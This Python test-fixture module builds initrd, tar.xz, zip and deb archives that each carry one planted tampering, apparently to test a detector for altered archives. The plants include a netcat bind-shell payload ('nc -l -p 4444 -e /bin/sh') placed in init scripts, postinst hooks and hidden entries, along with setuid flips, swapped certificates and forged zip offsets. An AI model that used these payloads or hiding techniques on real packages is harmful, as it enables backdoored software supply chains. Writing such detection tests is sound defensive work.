"""Archives and packages with one thing planted in them, beside benign noise."""

from __future__ import annotations

import gzip
import io
import lzma
import random
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass, field, replace

from tests.formats.artefact.test_cpio import TRAILER, entry

BUILT = 1_764_547_200
PAYLOAD = b"#!/bin/sh\nnc -l -p 4444 -e /bin/sh\n"
_CERTIFICATE = b"-----BEGIN CERTIFICATE-----\nMIIB%s\n-----END CERTIFICATE-----\n"


@dataclass(frozen=True)
class Entry:
    """A file of the tree that the archives hold."""

    name: str
    body: bytes = b""
    mode: int = 0o100644
    uid: int = 0
    owner: str = "root"
    device: tuple[int, int] = (0, 0)
    pax: dict[str, str] = field(default_factory=dict)


def tree() -> list[Entry]:
    """A root file system of a few files and a hundred small ones."""
    files = [
        Entry("bin", mode=0o40755),
        Entry("bin/busybox", bytes(range(256)) * 8, 0o100755),
        Entry("bin/sh", b"busybox", 0o120777),
        Entry("bin/su", b"\x7fELF su" * 40, 0o100755),
        Entry("etc", mode=0o40755),
        Entry("etc/init.d", mode=0o40755),
        Entry("etc/init.d/rcS", b"#!/bin/sh\nmount -a\n", 0o100755),
        Entry("etc/shadow", b"root:*:19000:0:99999:7:::\n", 0o100600),
        Entry("etc/ssl.pem", _CERTIFICATE % b"good"),
        Entry("etc/update.conf", b"server=https://update.example.com/stable\n"),
        Entry("lib", mode=0o40755),
    ]
    return files + [Entry(f"lib/{n:03}.so", b"lib%03d" % n * 3) for n in range(100)]


_CHANGES: dict[str, tuple[str, dict[str, object]]] = {
    "setuid": ("bin/su", {"mode": 0o104755}),
    "owner": ("etc/shadow", {"uid": 1000}),
    "owner-name": ("etc/shadow", {"owner": "guest"}),
    "link-target": ("bin/sh", {"body": b"bysybox"}),
    "trusted-certificate": (
        "etc/ssl.pem", {"body": _CERTIFICATE % b"good" + _CERTIFICATE % b"evil"},
    ),
    "update-address": (
        "etc/update.conf", {"body": b"server=https://update.example.net/stable\n"},
    ),
    "content": ("etc/init.d/rcS", {"body": b"#!/bin/sh\nmount -b\n"}),
    "type": ("lib/007.so", {"body": b"", "mode": 0o20666, "device": (1, 1)}),
    "capability": (
        "bin/su",
        {"pax": {"SCHILY.xattr.security.capability": "\1\0\0\2\0\4" + "\0" * 14}},
    ),
    "pax-comment": ("bin/su", {"pax": {"comment": PAYLOAD.decode()}}),
}  # fmt: skip
_ADDITIONS = {
    "device-node": Entry("mem", mode=0o20666, device=(1, 1)),
    "file-added": Entry("etc/init.d/S99", PAYLOAD, 0o100755),
    "duplicate-name": Entry("etc/init.d/rcS", PAYLOAD, 0o100755),
}


def _tree_plants(plant: str) -> list[Entry]:
    """The tree with what can be planted in every archive."""
    files = tree()
    if plant in _CHANGES:
        name, values = _CHANGES[plant]
        return [replace(one, **values) if one.name == name else one for one in files]
    if plant in _ADDITIONS:
        return [*files, _ADDITIONS[plant]]
    if plant == "file-gone":
        return [one for one in files if one.name != "etc/shadow"]
    return files


def _words(rng: random.Random) -> Iterator[int]:
    """A payload as numbers of four bytes."""
    while True:
        yield int.from_bytes(rng.randbytes(4), "big") >> 1


# --- cpio in gzip


def cpio_gz(plant: str, noise: random.Random | None) -> bytes:
    """An initrd."""
    level = noise.choice((1, 6, 9)) if noise else 9
    stamp = BUILT + (noise.randrange(86_400 * 300) if noise else 0)
    first = noise.randrange(1, 900_000) if noise else 1
    words = _words(random.Random(plant))
    archive = b""
    for number, one in enumerate(_tree_plants(plant)):
        time = stamp + number % 7
        inode = first + number
        if plant == "times-as-bytes" and one.name.startswith("lib/"):
            time = next(words)
        if plant == "inodes-as-bytes" and one.name.startswith("lib/"):
            inode = next(words)
        if plant == "hard-link" and one.name == "lib/099.so":
            inode -= 1
        row = entry(
            one.name.encode(), one.body, one.mode, ino=inode, mtime=time, uid=one.uid,
            rdevmajor=one.device[0],
        )  # fmt: skip
        archive += _cpio_row(plant, one, row)
    archive += TRAILER
    if plant == "second-archive":
        archive += entry(b"etc/init.d/rcS", PAYLOAD, 0o100755, mtime=stamp) + TRAILER
    if plant == "behind-trailer":
        archive += PAYLOAD
    return packed(plant, archive, level, stamp)


def _cpio_row(plant: str, one: Entry, row: bytes) -> bytes:
    if plant == "padding" and one.name == "etc/update.conf":
        return row[:-1] + b"X"
    if plant == "name-tail" and one.name == "etc/init.d":
        name = b"etc/init.d\0evil\0"
        head = row[:94] + b"%08x" % len(name) + row[102:110]
        return head + name + bytes(-(110 + len(name)) % 4)
    if plant == "check-field" and one.name == "bin/su":
        return row[:102] + b"deadbeef" + row[110:]
    return row


def packed(plant: str, content: bytes, level: int, stamp: int) -> bytes:
    """In gzip, with what can be planted there."""
    squeeze = zlib.compressobj(level, zlib.DEFLATED, -15)
    body = squeeze.compress(content)
    if plant == "empty-blocks":
        body += squeeze.flush(zlib.Z_SYNC_FLUSH) + squeeze.flush(zlib.Z_FULL_FLUSH)
        body += b"\0\0\0\xff\xff" * 20
    body += squeeze.flush()
    if plant == "deflate-slack":
        body = _with_slack(body, content)
    flags, extra = 0, b""
    if plant == "gzip-name":
        flags, extra = 8, b"cmdline: init=/evil\0"
    elif plant == "gzip-extra":
        value = b"EV" + struct.pack("<H", len(PAYLOAD)) + PAYLOAD
        flags, extra = 4, struct.pack("<H", len(value)) + value
    xfl = {1: 4, 9: 2}.get(level, 0)
    head = b"\x1f\x8b\x08" + struct.pack("<BIBB", flags, stamp & 0xFFFFFFFF, xfl, 3) + extra
    tail = struct.pack("<II", zlib.crc32(content), len(content) & 0xFFFFFFFF)
    made = head + body + tail
    if plant == "second-member":
        made += gzip.compress(entry(b"init", PAYLOAD, 0o100755) + TRAILER, mtime=0)
    return made + (PAYLOAD if plant == "gzip-behind" else b"")


def _with_slack(body: bytes, content: bytes) -> bytes:
    """The highest bit of the last byte set, where it is unused; else a stored block behind it."""
    for bit in (0x80, 0x40):
        other = body[:-1] + bytes([body[-1] ^ bit])
        undo = zlib.decompressobj(-15)
        try:
            if undo.decompress(other) + undo.flush() == content and undo.eof:
                return other
        except zlib.error:
            continue
    return body + b"\0"


# --- tar in xz


def tar_xz(plant: str, noise: random.Random | None) -> bytes:
    """A root file system as an archive."""
    preset = noise.choice((0, 3, 6)) if noise else 6
    return _xz(plant, tar(plant, noise), preset)


def _xz(plant: str, content: bytes, preset: int) -> bytes:
    made = lzma.compress(content, preset=preset)
    if plant == "second-stream":
        made += lzma.compress(tar("file-added", None), preset=preset)
    return made + (PAYLOAD if plant == "xz-behind" else b"")


def tar(plant: str, noise: random.Random | None) -> bytes:
    """The tree; with noise other times, and files of a folder in another order."""
    stamp = BUILT + (noise.randrange(86_400 * 300) if noise else 0)
    files = _tree_plants(plant)
    if noise:
        head, tail = files[:11], files[11:]
        noise.shuffle(tail)
        files = head + tail
    words = _words(random.Random(plant))
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT) as archive:
        for one in files:
            info = tarfile.TarInfo(one.name)
            info.mode, info.uid, info.mtime = one.mode & 0o7777, one.uid, stamp
            info.uname = info.gname = one.owner
            info.pax_headers = one.pax
            info.devmajor, info.devminor = one.device
            kind = one.mode & 0o170000
            if kind == 0o120000:
                info.type, info.linkname = tarfile.SYMTYPE, one.body.decode()
            elif kind == 0o40000:
                info.type = tarfile.DIRTYPE
            elif kind == 0o20000:
                info.type = tarfile.CHRTYPE
            else:
                info.size = len(one.body)
            if plant == "time-far" and one.name.startswith("lib/"):
                info.mtime = next(words)
            archive.addfile(info, io.BytesIO(one.body))
    return _tar_plants(plant, bytearray(out.getvalue()))


def _tar_plants(plant: str, archive: bytearray) -> bytes:
    at = archive.index(b"bin/su\0")  # its header; 280 bytes of content stand behind
    match plant:
        case "file-slack":
            archive[at + 512 + 300 : at + 512 + 300 + len(PAYLOAD)] = PAYLOAD
        case "device-numbers":
            archive[at + 329 : at + 337] = b"evilpay\0"
            _tar_checksum(archive, at)
        case "prefix":
            archive[at + 346 : at + 346 + len(PAYLOAD)] = PAYLOAD
            _tar_checksum(archive, at)
        case "wrong-checksum":
            archive[at + 149] ^= 1
        case "behind-end":
            archive += PAYLOAD
    return bytes(archive)


def _tar_checksum(archive: bytearray, at: int) -> None:
    archive[at + 148 : at + 156] = b" " * 8
    archive[at + 148 : at + 156] = b"%06o\0 " % sum(archive[at : at + 512])


# --- zip


def zip_(plant: str, noise: random.Random | None) -> bytes:
    """A package of modules, as a wheel is."""
    stamp = (2026, 1, 1 + (noise.randrange(28) if noise else 0), 3, 4, 6)
    level = noise.choice((1, 6, 9)) if noise else 9
    files = [Entry(f"pkg/{n:02}.py", b"VALUE_%02d = 1\n" % n * 20) for n in range(10)]
    if plant == "content":
        files[3] = Entry("pkg/03.py", b"VALUE_03 = 2\n" * 20)
    if plant == "duplicate-name":
        files.append(Entry("pkg/03.py", PAYLOAD))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for one in files:
            info = zipfile.ZipInfo(one.name, stamp)
            info.compress_type = zipfile.ZIP_DEFLATED
            mode = 0o104755 if plant == "setuid" and one.name == "pkg/03.py" else 0o100644
            info.external_attr = mode << 16
            if one.name == "pkg/03.py":
                info.create_system = 0 if plant == "version-made-by" else 3
                info.internal_attr = 0xBEE0 if plant == "internal-attributes" else 0
            archive.writestr(info, one.body, compresslevel=level)
        archive.comment = PAYLOAD if plant == "comment" else b""
    return _zip_plants(plant, bytearray(out.getvalue()))


def _zip_plants(plant: str, archive: bytearray) -> bytes:
    local = archive.index(b"pkg/03.py")
    central = archive.rindex(b"pkg/03.py") - 46
    match plant:
        case "behind":
            return bytes(archive + PAYLOAD)
        case "before":
            return _inserted(archive, 0, PAYLOAD)
        case "local-name":
            archive[local : local + 9] = b"pkg/99.py"
        case "extra-field":
            extra = struct.pack("<HH", 0x4556, len(PAYLOAD)) + PAYLOAD
            struct.pack_into("<H", archive, local - 2, len(extra))
            return _inserted(archive, local + 9, extra)
        case "hidden-entry":
            body = zlib.compress(PAYLOAD)[2:-4]
            row = struct.pack(
                "<4s5H3I2H", b"PK\3\4", 20, 0, 8, 0, 0, zlib.crc32(PAYLOAD), len(body),
                len(PAYLOAD), 4, 0,
            ) + b"evil" + body  # fmt: skip
            return _inserted(archive, local - 30, row)
        case "wrong-checksum":
            archive[local - 30 + 14] ^= 1
            archive[central + 16] ^= 1
    return bytes(archive)


def _inserted(archive: bytearray, at: int, what: bytes) -> bytes:
    """``what`` at an offset, all pointers moved as a careful forger moves them."""
    end = len(archive) - 22
    directory = int.from_bytes(archive[end + 16 : end + 20], "little")
    place = directory
    while archive[place : place + 4] == b"PK\1\2":
        (offset,) = struct.unpack_from("<I", archive, place + 42)
        if offset >= at:
            struct.pack_into("<I", archive, place + 42, offset + len(what))
        lengths = struct.unpack_from("<3H", archive, place + 28)
        place += 46 + sum(lengths)
    struct.pack_into("<I", archive, end + 16, directory + len(what))
    return bytes(archive[:at] + what + archive[at:])


# --- deb


def deb(plant: str, noise: random.Random | None) -> bytes:
    """A package: a version, control data and a tree."""
    stamp = BUILT + (noise.randrange(86_400 * 300) if noise else 0)
    preset = noise.choice((0, 3, 6)) if noise else 6
    version = b"1.0-2" if plant == "version" else b"1.0-1"
    script = PAYLOAD if plant == "postinst" else b"#!/bin/sh\nexit 0\n"
    control = _small_tar(
        stamp,
        Entry("./control", b"Package: tool\nVersion: %s\nArchitecture: all\n" % version),
        Entry("./postinst", script, 0o100755),
    )
    server = b"evil.example.net" if plant == "conffile" else b"good.example.com"
    data = _small_tar(
        stamp,
        Entry("./usr/bin/tool", b"#!/bin/sh\n", 0o104755 if plant == "setuid" else 0o100755),
        Entry("./etc/tool.conf", b"server=%s\n" % server),
    )
    odd = lzma.compress(control, preset=preset)
    members = [
        (b"debian-binary", b"2.0\n", 0o100644),
        (b"control.tar.xz", odd, 0o100644),
        (b"data.tar.xz", lzma.compress(data, preset=preset), 0o100644),
        (b"_odd", b"odd", 0o100644),
    ]
    if plant == "member":
        members.append((b"_evil", PAYLOAD, 0o100644))
    if plant == "ar-mode":
        members[1] = (*members[1][:2], 0o100666)
    filling = b"X" if plant == "ar-padding" else b"\n"
    made = b"!<arch>\n" + b"".join(
        b"%-16s%-12d0     0     %-8o%-10d`\n" % (name, stamp, mode, len(body))
        + body
        + filling[: len(body) % 2]
        for name, body, mode in members
    )
    return made + (PAYLOAD if plant == "behind" else b"")


def _small_tar(stamp: int, *files: Entry) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.GNU_FORMAT) as archive:
        for one in files:
            info = tarfile.TarInfo(one.name)
            info.size, info.mode, info.mtime = len(one.body), one.mode & 0o7777, stamp
            info.uname = info.gname = "root"
            archive.addfile(info, io.BytesIO(one.body))
    return out.getvalue()
